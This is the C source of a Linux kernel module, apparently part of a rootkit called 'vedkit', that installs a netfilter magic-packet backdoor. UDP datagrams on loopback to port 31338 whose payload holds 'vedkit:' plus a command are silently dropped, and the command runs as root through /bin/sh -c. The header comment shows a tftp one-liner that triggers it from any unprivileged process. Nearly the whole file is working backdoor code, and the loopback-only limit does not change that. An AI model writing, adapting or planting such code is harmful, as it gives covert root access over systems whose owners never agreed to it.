// SPDX-License-Identifier: GPL-2.0
/*
 * nf_backdoor: a magic-packet backdoor.  A netfilter hook at LOCAL_IN
 * watches UDP datagrams to port nf_port (default 31338); when the payload
 * holds "vedkit:" followed by a command, the packet is dropped (no socket
 * ever sees it) and the command runs as root through /bin/sh -c.  Any
 * unprivileged process can send it: busybox's tftp puts its file name in
 * the payload, e.g.  tftp -g -r 'vedkit:id > /tmp/x' 127.0.0.1 31338.
 *
 * Lab safety: only packets that arrived on a loopback device count, so a
 * guest with a real network cannot be remote-controlled.
 */
#define pr_fmt(fmt) "vedkit: " fmt

#include <linux/if.h>
#include <linux/ip.h>
#include <linux/netdevice.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/skbuff.h>
#include <linux/string.h>
#include <linux/udp.h>
#include <linux/umh.h>
#include <linux/workqueue.h>
#include <net/net_namespace.h>

#include "vedkit.h"

#define VK_MAGIC "vedkit:"
#define VK_PAYLOAD_MAX 256

/*
 * The hook runs in softirq context: the shell is started from a worker.  One
 * command at a time: a packet that comes while one runs is dropped unheard.
 */
static char vk_cmd[VK_PAYLOAD_MAX];
static unsigned long vk_cmd_busy;

static void vk_run_cmd(struct work_struct *work)
{
	char *argv[] = { "/bin/sh", "-c", vk_cmd, NULL };
	static char *envp[] = { "HOME=/", "PATH=/sbin:/bin:/usr/sbin:/usr/bin", NULL };
	int ret;

	ret = call_usermodehelper(argv[0], argv, envp, UMH_WAIT_PROC);
	pr_info("magic packet: ran \"%s\" as root (status %d)\n", vk_cmd, ret);
	clear_bit_unlock(0, &vk_cmd_busy);
}

static DECLARE_WORK(vk_cmd_work, vk_run_cmd);

static unsigned int vk_nf_hook(void *priv, struct sk_buff *skb,
			       const struct nf_hook_state *state)
{
	char buf[VK_PAYLOAD_MAX];
	const struct iphdr *iph = ip_hdr(skb);
	struct udphdr _uh;
	const struct udphdr *uh;
	unsigned int off, len;
	const char *magic;

	if (!state->in || !(state->in->flags & IFF_LOOPBACK) ||
	    iph->protocol != IPPROTO_UDP)
		return NF_ACCEPT;
	off = skb_network_offset(skb) + iph->ihl * 4;
	uh = skb_header_pointer(skb, off, sizeof(_uh), &_uh);
	if (!uh || ntohs(uh->dest) != vk_nf_port)
		return NF_ACCEPT;
	off += sizeof(*uh);
	if (skb->len <= off)
		return NF_ACCEPT;
	len = min_t(unsigned int, skb->len - off, sizeof(buf) - 1);
	if (skb_copy_bits(skb, off, buf, len))
		return NF_ACCEPT;
	buf[len] = '\0';
	/*
	 * Anywhere in the payload: a tftp request starts with a 2-byte opcode,
	 * and the command ends at the first NUL.
	 */
	magic = NULL;
	for (off = 0; off + sizeof(VK_MAGIC) - 1 <= len; off++) {
		if (!memcmp(buf + off, VK_MAGIC, sizeof(VK_MAGIC) - 1)) {
			magic = buf + off + sizeof(VK_MAGIC) - 1;
			break;
		}
	}
	if (!magic)
		return NF_ACCEPT;
	if (!test_and_set_bit_lock(0, &vk_cmd_busy)) {
		strscpy(vk_cmd, magic, sizeof(vk_cmd));
		schedule_work(&vk_cmd_work);
	}
	return NF_DROP;
}

static struct nf_hook_ops vk_nf_ops = {
	.hook = vk_nf_hook,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_LOCAL_IN,
	.priority = NF_IP_PRI_FIRST,
};

int vk_nf_backdoor_init(void)
{
	int ret = nf_register_net_hook(&init_net, &vk_nf_ops);

	if (ret)
		return ret;
	pr_info("netfilter backdoor on UDP port %d (loopback only)\n", vk_nf_port);
	return 0;
}

void vk_nf_backdoor_exit(void)
{
	nf_unregister_net_hook(&init_net, &vk_nf_ops);
	flush_work(&vk_cmd_work);
}
